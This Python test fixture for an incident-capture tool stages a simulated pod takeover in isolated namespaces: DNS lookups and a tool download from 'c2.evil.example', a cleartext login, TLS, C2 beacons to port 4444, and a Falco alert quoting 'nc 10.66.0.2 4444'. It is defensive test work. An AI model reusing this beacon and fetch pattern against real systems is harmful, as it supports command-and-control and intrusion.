"""A pod that is taken over, as packets: names looked up, a login sent in the clear, a tool fetched, beacons, TLS.

Everything is real: `tripshark run` records two namespaces, programs in them talk, Falco's alerts come over HTTP.
"""

from __future__ import annotations

import os
import tempfile
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import trustme

from tests.e2e.machine import Machine, Network, falco_event, wait_for

POD, FAR = "10.66.0.1", "10.66.0.2"
C2_PORT = 4444

RULES = """
- rule: Command and control, miners
  description: Beacons come back; the pod is more telling than one of its connections.
  match: {rules: ["Outbound Connection to C2 Servers"]}
  capture: {scope: pod, before: 30s, after: 2s}
- rule: Shells
  match: {rules: ["Terminal shell in container"]}
  capture: {before: 20s, after: 300ms}
"""

_FAR_END = """
import selectors, socket, ssl, struct, sys, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
HERE, CERT = sys.argv[1:]
def names():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind((HERE, 53))
    while True:
        q, who = u.recvfrom(512)
        missing = b"backup" in q
        head = struct.pack("!5H", 0x8183 if missing else 0x8180, 1, 0 if missing else 1, 0, 0)
        answer = b"" if missing else struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton(HERE)
        u.sendto(q[:2] + head + q[12:] + answer, who)
class Answers(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        body = b"\\x7fELF\\x02\\x01\\x01" + bytes(9000) if "tool" in self.path else b"ok"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Content-Type", "application/octet-stream")
        self.end_headers(); self.wfile.write(body)
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"])); self.do_GET()
    def log_message(self, *a): pass
def secret():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); context.load_cert_chain(CERT)
    with context.wrap_socket(socket.create_server((HERE, 443)), server_side=True) as l:
        while True:
            c, _ = l.accept(); c.recv(100); c.close()
def control():
    l = socket.create_server((HERE, 4444))
    while True:
        c, _ = l.accept()
        while got := c.recv(1 << 17):
            if len(got) < 400: c.sendall(b"SLEEP 100\\n")
web = ThreadingHTTPServer((HERE, 80), Answers)
for each in (names, secret, control, web.serve_forever):
    threading.Thread(target=each, daemon=True).start()
print("up", flush=True); threading.Event().wait()
"""

_POD = """
import base64, http.client, socket, ssl, struct, sys, time
FAR = sys.argv[1]
def look_up(name):
    q = struct.pack("!6H", hash(name) & 0xffff, 0x0100, 1, 0, 0, 0)
    for label in name.split("."): q += bytes([len(label)]) + label.encode()
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
    u.sendto(q + struct.pack("!BHH", 0, 1, 1), (FAR, 53)); u.recv(512)
for name in ("ledger.payments.svc.cluster.local", "backup-7.evil.example", "c2.evil.example"): look_up(name)
web = http.client.HTTPConnection(FAR, 80, timeout=5)
login = "Basic " + base64.b64encode(b"deploy:hunter22").decode()
for path, host in (("/login", "ledger.payments.svc"), ("/tool.bin", "c2.evil.example")):
    web.request("GET", path, headers={"Host": host, "Authorization": login, "User-Agent": "curl/7.88.1"})
    web.getresponse().read()
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
with context.wrap_socket(socket.create_connection((FAR, 443), timeout=5), server_hostname="c2.evil.example") as s:
    s.sendall(b"hello"); s.recv(10)
s = socket.create_connection((FAR, 4444), timeout=5)
print(s.getsockname()[1], time.time_ns(), flush=True)
for n in range(14):
    s.sendall(b"BEACON checkout-7d9f %d\\n" % n); s.recv(64); time.sleep(0.1)
s.sendall(bytes(120000)); s.close()
"""


@dataclass(frozen=True, kw_only=True)
class House:
    """A machine on which it has happened."""

    machine: Machine
    network: Network
    pod: str  # its network namespace
    url: str
    incident: Mapping[str, object]
    port: int  # of the beacon's client

    @property
    def id(self) -> str:
        """Of the incident."""
        return str(self.incident["id"])

    def beacon_alert(self, **changes: object) -> dict[str, object]:
        """Falco's words about the beacon."""
        told: dict[str, object] = {
            "connection": f"{POD}:{self.port}->{FAR}:{C2_PORT}",
            "pod": "checkout-7d9f",
        }
        return falco_event(**{**told, **changes})  # type: ignore[arg-type]


@contextmanager
def house() -> Iterator[House]:
    """Starts it, lets it happen, and waits until the evidence has been read."""
    network = Network(f"br{os.getpid():x}")
    with tempfile.TemporaryDirectory(prefix="ts-machine-") as base:
        os.chmod(base, 0o755)
        folder = Path(base) / "machine"
        folder.mkdir(mode=0o755)
        machine = Machine(
            folder,
            rules_text=RULES,
            kubernetes={"node": "worker-3"},
            recorder={"include": [f"ts-{network.prefix}-*"]},
            targets={
                "static": [
                    {
                        "netns": f"ts-{network.prefix}-pod",
                        "namespace": "payments",
                        "pod": "checkout-7d9f",
                        "labels": {"app": "checkout", "tier": "backend"},
                        "owner": "Deployment/checkout",
                    }
                ]
            },
        )
        try:
            machine.start()
            yield _happened(machine, network, Path(base))
        finally:
            machine.stop()
            network.close()


def _happened(machine: Machine, network: Network, base: Path) -> House:
    far, pod = network.namespace("far"), network.namespace("pod")
    network.veth(pod, far)
    machine.wait_recorded(pod)
    certificate = trustme.CA().issue_cert("c2.evil.example")
    with (base / "cert.pem").open("wb") as file:
        for each in (certificate.private_key_pem, *certificate.cert_chain_pems):
            file.write(each.bytes())
    up = network.python(far, _FAR_END, FAR, str(base / "cert.pem"))
    assert up.stdout is not None
    assert up.stdout.readline() == "up\n", up.stderr
    client = network.python(pod, _POD, FAR)
    assert client.stdout is not None
    port, t0_ns = map(int, client.stdout.readline().split())
    client.wait(30)
    made = House(
        machine=machine, network=network, pod=pod, url=machine.url, incident={}, port=port
    )
    machine.post(made.beacon_alert(time_ns=t0_ns, **{"proc.cmdline": "nc 10.66.0.2 4444"}))
    machine.post(made.beacon_alert(rule="Read sensitive file untrusted", priority="Warning"))

    def read() -> dict[str, object]:
        found = [each for each in machine.incidents() if each["summary"]]
        return found[0] if found else {}

    incident = wait_for(read, "the evidence to be read", 60)
    return House(
        machine=machine, network=network, pod=pod, url=machine.url, incident=incident, port=port
    )
